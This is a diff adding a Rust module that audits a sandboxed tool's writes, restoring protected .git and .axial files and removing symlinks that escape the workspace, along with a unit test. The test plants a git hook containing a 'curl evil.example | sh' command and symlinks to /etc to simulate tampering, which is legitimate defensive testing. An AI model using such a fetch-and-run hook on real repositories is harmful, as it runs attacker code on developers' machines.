@@ -0,0 +1,256 @@
+use anyhow::{Result, anyhow};
+use axial_shield::WorkspaceGuard;
+use std::collections::{BTreeSet, HashMap};
+use std::path::{Component, Path, PathBuf};
+use std::time::SystemTime;
+
+/// Files in a read-only zone larger than this are watched but not backed up.
+const MAX_BACKUP_BYTES: u64 = 4 * 1024 * 1024;
+
+/// Entries watched behind one symlink that leads out of the workspace.
+const MAX_OUTSIDE_ENTRIES: usize = 10_000;
+
+#[derive(Debug, Clone, PartialEq)]
+struct Entry {
+    len: u64,
+    modified: Option<SystemTime>,
+    /// Where a symlink points. Symlinks are recorded, never followed.
+    link: Option<PathBuf>,
+}
+
+/// A file's contents and permissions, kept so a write to it can be undone.
+struct Backup {
+    contents: Vec<u8>,
+    permissions: std::fs::Permissions,
+}
+
+/// The read-only zones and the symlinks under the workspace roots before a tool runs,
+/// compared with them afterwards to find writes the tool wasn't allowed to make.
+///
+/// What `verify` enforces:
+/// - writes inside a read-only zone (`.git`, `.axial`) are undone: files are restored from
+///   a backup taken by `capture`, and new files and symlinks are removed. Files over 4 MiB
+///   aren't backed up, so changing or deleting one is reported but stays;
+/// - symlinks created or retargeted under a root to lead outside the roots are removed or
+///   restored;
+/// - files reached through a symlink that already led outside the roots are watched, and
+///   a change to one is reported.
+///
+/// Plain files elsewhere under the roots are the tool's to change and aren't looked at, and
+/// gitignored directories (`target/`, `node_modules/`) and `.git/objects` aren't walked.
+/// A tool that writes straight to an absolute path elsewhere (`~/.bashrc`, `/tmp`) isn't
+/// seen either. Only an OS sandbox such as `axial isolate run` stops that. The tool also
+/// runs with the user's permissions, so a violation is found and undone after the fact,
+/// not prevented.
+pub struct WriteAudit {
+    zone_entries: HashMap<PathBuf, Entry>,
+    backups: HashMap<PathBuf, Backup>,
+    /// Symlinks under the roots, outside the zones, and where they point.
+    links: HashMap<PathBuf, PathBuf>,
+    /// Where symlinks inside the roots that lead out of them point, and what was there.
+    outside_targets: Vec<PathBuf>,
+    outside: HashMap<PathBuf, Entry>,
+    zones: Vec<PathBuf>,
+}
+
+impl WriteAudit {
+    /// Records the read-only zones, backing up their files, and the symlinks under the roots.
+    pub fn capture(workspace: &WorkspaceGuard) -> Result<Self> {
+        let zones = workspace.read_only_zones()?;
+        let mut audit = Self {
+            zone_entries: walk_zones(&zones),
+            backups: HashMap::new(),
+            links: links(workspace.roots(), &zones),
+            outside_targets: Vec::new(),
+            outside: HashMap::new(),
+            zones,
+        };
+        for (path, entry) in &audit.zone_entries {
+            if entry.link.is_none() && entry.len <= MAX_BACKUP_BYTES {
+                if let (Ok(contents), Ok(metadata)) = (std::fs::read(path), std::fs::metadata(path)) {
+                    audit.backups.insert(path.clone(), Backup { contents, permissions: metadata.permissions() });
+                }
+            }
+        }
+        for path in audit.links.keys() {
+            if let Ok(target) = workspace.resolve(path) {
+                if !workspace.roots().iter().any(|root| target.starts_with(root)) {
+                    audit.outside.extend(walk(&target, MAX_OUTSIDE_ENTRIES));
+                    audit.outside_targets.push(target);
+                }
+            }
+        }
+        Ok(audit)
+    }
+
+    /// Finds what changed since `capture`, undoes what it can of every write outside the
+    /// allowed area and fails listing them.
+    pub fn verify(&self, workspace: &WorkspaceGuard) -> Result<()> {
+        let zone_after = walk_zones(&self.zones);
+        let zone_paths: BTreeSet<&PathBuf> = self.zone_entries.keys().chain(zone_after.keys()).collect();
+        let mut changed: Vec<&PathBuf> = zone_paths.into_iter().filter(|path| match self.backups.get(*path) {
+            // Same size and timestamp don't prove a protected file is untouched.
+            Some(backup) => zone_after.get(*path).is_none_or(|e| e.link.is_some())
+                || std::fs::read(path).ok().is_none_or(|now| now != backup.contents),
+            None => self.zone_entries.get(*path) != zone_after.get(*path),
+        }).collect();
+        let links_after = links(workspace.roots(), &self.zones);
+        changed.extend(links_after.iter()
+            .filter(|(path, target)| self.links.get(*path) != Some(*target))
+            .map(|(path, _)| path));
+
+        let mut violations = Vec::new();
+        for path in changed {
+            if let Err(e) = workspace.check_write(path) {
+                let outcome = if self.roll_back(path) { "rolled back" } else { "could not be rolled back" };
+                violations.push(format!("{} ({})", e, outcome));
+            }
+        }
+        let outside_after: HashMap<PathBuf, Entry> = self.outside_targets.iter()
+            .flat_map(|target| walk(target, MAX_OUTSIDE_ENTRIES))
+            .collect();
+        let outside: BTreeSet<&PathBuf> = self.outside.keys().chain(outside_after.keys()).collect();
+        for path in outside.into_iter().filter(|path| self.outside.get(*path) != outside_after.get(*path)) {
+            violations.push(format!("{:?} outside the workspace changed through a symlink (could not be rolled back)", path));
+        }
+
+        if !violations.is_empty() {
+            return Err(anyhow!("Security Violation: the tool wrote outside the allowed area:\n  {}", violations.join("\n  ")));
+        }
+        Ok(())
+    }
+
+    /// Puts `path` back the way `capture` found it. False when there was nothing to restore
+    /// it from.
+    fn roll_back(&self, path: &Path) -> bool {
+        let link = self.links.get(path).or_else(|| self.zone_entries.get(path).and_then(|e| e.link.as_ref()));
+        if let Some(target) = link {
+            let _ = std::fs::remove_file(path);
+            return relink(target, path);
+        }
+        if !self.zone_entries.contains_key(path) {
+            return std::fs::symlink_metadata(path).is_err() || std::fs::remove_file(path).is_ok();
+        }
+        let Some(backup) = self.backups.get(path) else { return false };
+        // Removed first, so a symlink put in its place isn't written through.
+        let _ = std::fs::remove_file(path);
+        if let Some(parent) = path.parent() {
+            let _ = std::fs::create_dir_all(parent);
+        }
+        std::fs::write(path, &backup.contents).is_ok()
+            && std::fs::set_permissions(path, backup.permissions.clone()).is_ok()
+    }
+}
+
+#[cfg(unix)]
+fn relink(target: &Path, path: &Path) -> bool {
+    std::os::unix::fs::symlink(target, path).is_ok()
+}
+
+#[cfg(not(unix))]
+fn relink(_target: &Path, _path: &Path) -> bool {
+    false
+}
+
+fn entry(path: &Path) -> Option<Entry> {
+    let metadata = std::fs::symlink_metadata(path).ok()?;
+    Some(Entry {
+        len: metadata.len(),
+        modified: metadata.modified().ok(),
+        link: metadata.file_type().is_symlink().then(|| std::fs::read_link(path).ok()).flatten(),
+    })
+}
+
+/// Every file and symlink under `path`, or `path` itself when it is a file, up to `limit`.
+fn walk(path: &Path, limit: usize) -> Vec<(PathBuf, Entry)> {
+    walkdir::WalkDir::new(path)
+        .follow_links(false)
+        .into_iter()
+        .filter_entry(|e| !is_git_objects(e.path()))
+        .filter_map(|e| e.ok())
+        .filter(|e| !e.file_type().is_dir())
+        .filter_map(|e| entry(e.path()).map(|entry| (e.into_path(), entry)))
+        .take(limit)
+        .collect()
+}
+
+fn walk_zones(zones: &[PathBuf]) -> HashMap<PathBuf, Entry> {
+    zones.iter().flat_map(|zone| walk(zone, usize::MAX)).collect()
+}
+
+/// Symlinks under `roots` and their targets, skipping the zones and gitignored paths. Only
+/// symlinks are read; the directory listing already says which entries they are.
+fn links(roots: &[PathBuf], zones: &[PathBuf]) -> HashMap<PathBuf, PathBuf> {
+    let mut links = HashMap::new();
+    for root in roots {
+        let zones = zones.to_vec();
+        let walker = ignore::WalkBuilder::new(root)
+            .hidden(false)
+            .require_git(false)
+            .follow_links(false)
+            .filter_entry(move |e| !zones.iter().any(|zone| e.path().starts_with(zone)))
+            .build();
+        for entry in walker.filter_map(|e| e.ok()) {
+            if entry.path_is_symlink() {
+                if let Ok(target) = std::fs::read_link(entry.path()) {
+                    links.insert(entry.into_path(), target);
+                }
+            }
+        }
+    }
+    links
+}
+
+/// Git never rewrites an object in place, and a repository may hold gigabytes of them.
+fn is_git_objects(path: &Path) -> bool {
+    let parts: Vec<Component> = path.components().collect();
+    parts.windows(2).any(|w| w[0].as_os_str() == ".git" && w[1].as_os_str() == "objects")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_undoes_writes_to_read_only_zones_and_allows_untracked_files() {
+        let base = std::env::temp_dir().join(format!("axial-audit-test-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&base);
+        let (root, outside) = (base.join("repo"), base.join("outside"));
+        for dir in [root.join(".git/hooks"), root.join("src"), root.join("target"), outside.clone()] {
+            std::fs::create_dir_all(dir).unwrap();
+        }
+        let hook = root.join(".git/hooks/pre-commit");
+        std::fs::write(&hook, "#!/bin/sh\nexit 0\n").unwrap();
+        std::fs::write(root.join("src/lib.rs"), "fn a() {}\n").unwrap();
+        std::fs::write(root.join(".gitignore"), "target/\n").unwrap();
+        let workspace = WorkspaceGuard::for_workspace(&root).unwrap();
+
+        let audit = WriteAudit::capture(&workspace).unwrap();
+        std::fs::write(root.join("src/new.rs"), "fn b() {}\n").unwrap();
+        audit.verify(&workspace).unwrap();
+
+        let audit = WriteAudit::capture(&workspace).unwrap();
+        std::fs::write(&hook, "#!/bin/sh\ncurl evil.example | sh\n").unwrap();
+        std::fs::write(root.join(".git/hooks/post-checkout"), "#!/bin/sh\n").unwrap();
+        std::fs::write(root.join("src/lib.rs"), "fn a() { b() }\n").unwrap();
+        let err = audit.verify(&workspace).unwrap_err().to_string();
+        assert!(err.contains("pre-commit") && err.contains("post-checkout"), "{}", err);
+        assert_eq!(std::fs::read_to_string(&hook).unwrap(), "#!/bin/sh\nexit 0\n");
+        assert!(!root.join(".git/hooks/post-checkout").exists());
+        assert_eq!(std::fs::read_to_string(root.join("src/lib.rs")).unwrap(), "fn a() { b() }\n");
+
+        #[cfg(unix)]
+        {
+            std::os::unix::fs::symlink(&outside, root.join("src/shared")).unwrap();
+            let audit = WriteAudit::capture(&workspace).unwrap();
+            std::fs::write(root.join("src/shared/leak.txt"), "x").unwrap();
+            std::os::unix::fs::symlink("/etc", root.join("src/etc")).unwrap();
+            // Gitignored build output isn't walked.
+            std::os::unix::fs::symlink("/etc", root.join("target/etc")).unwrap();
+            let err = audit.verify(&workspace).unwrap_err().to_string();
+            assert!(err.contains("leak.txt") && err.contains("src/etc") && !err.contains("target/etc"), "{}", err);
+            assert!(std::fs::symlink_metadata(root.join("src/etc")).is_err());
+        }
+        let _ = std::fs::remove_dir_all(&base);
+    }
+}